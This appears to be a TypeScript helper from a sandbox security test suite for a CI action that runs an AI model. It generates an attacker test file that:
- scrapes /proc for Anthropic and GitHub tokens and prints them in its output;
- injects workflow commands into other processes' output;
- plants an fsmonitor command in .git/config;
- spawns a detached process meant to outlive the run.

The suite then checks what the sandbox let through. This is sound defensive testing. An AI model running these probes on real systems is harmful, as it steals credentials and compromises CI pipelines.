/**
 * An attacker's test file: what a pull request's own test, or a model steered by a prompt-injected issue,
 * would run to steal the key and reach the workflow. It never fails, so whatever it gets lands in the
 * suite; what it steals goes into its own title and output, which is how it would leave the run.
 */
import { execFileSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync } from 'node:fs'
import { randomBytes } from 'node:crypto'
import { join } from 'node:path'

export interface ProbeTargets {
  /** Files it appends a line to: the runner's command files, the checkout's .git/config. */
  appends: string[]
  /** Files it tries to create: in the checkout, the tool's home, the action's folder. */
  creates: string[]
  /** What a detached child writes once the run should be over. */
  escapeeMarker: string
}

export const PROBE_TITLE_PREFIX = 'probe stole'

export function probeTargets(options: { checkout: string; appends?: string[]; actionDir: string; home: string }): ProbeTargets {
  const tag = randomBytes(4).toString('hex')
  // Where an escapee could write and the test would see it: not /tmp (the sandbox has its own), but a
  // folder in the checkout, which the sandbox sees as the host does, open to every user.
  const drop = join(options.checkout, `escapee-drop-${tag}`)
  mkdirSync(drop)
  chmodSync(drop, 0o777)
  return {
    appends: [join(options.checkout, '.git', 'config'), ...(options.appends ?? [])],
    creates: [join(options.checkout, `pwned-${tag}`), join(options.checkout, '.git', `pwned-${tag}`), join(options.home, `rtg-pwned-${tag}`), join(options.actionDir, 'prompts', `pwned-${tag}.md`)],
    escapeeMarker: join(drop, 'escapee')
  }
}

/** A jest test file (CommonJS, no transform needed) that runs every probe at load time. */
export function probeTestFile(targets: ProbeTargets): string {
  return `const fs = require('fs')
const { spawn } = require('child_process')
const targets = ${JSON.stringify(targets)}
const stolen = new Set()
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  for (const file of ['environ', 'cmdline']) {
    try {
      const text = fs.readFileSync('/proc/' + pid + '/' + file, 'utf8')
      for (const entry of text.split('\\0')) if (/^(ANTHROPIC_API_KEY|INPUT_ANTHROPIC-API-KEY|INPUT_GITHUB-TOKEN|GITHUB_TOKEN|ACTIONS_RUNTIME_TOKEN)=./.test(entry)) stolen.add(entry)
    } catch {}
  }
  // Workflow commands straight into another process's output, the step log among them.
  try { fs.appendFileSync('/proc/' + pid + '/fd/1', '\\n::error::PWNED-FD\\n##[error]PWNED-FD\\n') } catch {}
}
for (const path of targets.appends) { try { fs.appendFileSync(path, '\\n[core]\\n\\tfsmonitor = touch ' + targets.escapeeMarker + '-fsmonitor\\nPWNED=1\\n') } catch {} }
for (const path of targets.creates) { try { fs.writeFileSync(path, 'PWNED') } catch {} }
// A detached child in its own session, meant to outlive the run.
spawn('setsid', ['sh', '-c', 'sleep 2; echo alive > "$0"', targets.escapeeMarker], { detached: true, stdio: 'ignore' }).unref()
const found = [...stolen].join(' ') || 'nothing'
console.log('${PROBE_TITLE_PREFIX}: ' + found)
test('${PROBE_TITLE_PREFIX} ' + found, () => {})
`
}

/** What got through: each file created or changed, a live escapee. Cleans up what it finds. */
export async function probeDamage(targets: ProbeTargets, before: Map<string, string>): Promise<string[]> {
  // The escapee writes 2 s after the test file loaded; the run takes longer than that, but wait to be sure.
  await new Promise((resolve) => setTimeout(resolve, 2500))
  const damage: string[] = []
  for (const path of [...targets.creates, targets.escapeeMarker, `${targets.escapeeMarker}-fsmonitor`]) {
    if (existsSync(path)) {
      damage.push(`created ${path}`)
      rmSync(path, { force: true })
    }
  }
  for (const path of targets.appends) if (readFileSync(path, 'utf8') !== before.get(path)) damage.push(`changed ${path}`)
  return damage
}

export function contentsOf(paths: string[]): Map<string, string> {
  return new Map(paths.map((path) => [path, readFileSync(path, 'utf8')]))
}

/** Linux, as root or with passwordless sudo: the sandbox can start here (it does in CI, which runs as root). */
export function machineCanSandbox(): boolean {
  if (process.platform !== 'linux') return false
  if (process.getuid?.() === 0) return true
  try {
    execFileSync('sudo', ['-n', 'true'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
}

/** `describe` where the sandbox can start, else skipped (the refusal where it cannot is tested on its own). */
export const describeWhereSandboxed = machineCanSandbox() ? describe : describe.skip
